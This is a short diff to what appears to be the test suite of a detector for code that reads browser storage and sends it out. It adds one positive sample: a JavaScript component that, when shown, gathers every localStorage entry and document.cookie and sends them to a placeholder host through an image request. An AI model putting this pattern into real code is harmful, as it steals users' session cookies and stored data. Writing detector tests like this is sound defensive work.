@@ -38,6 +38,13 @@ examine(readsBrowserStorageAndSends, {
       },
       weight: 'strong',
     },
+    {
+      when: 'the cookies and all of the storage are sent when a component is shown',
+      files: {
+        'index.js': `export class A { shown() { const all = {}; for (let i = 0; i < localStorage.length; i++) all[i] = localStorage.getItem(localStorage.key(i)); new Image().src = 'https://a.invalid/?d=' + JSON.stringify({ all, c: document.cookie }); } }`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
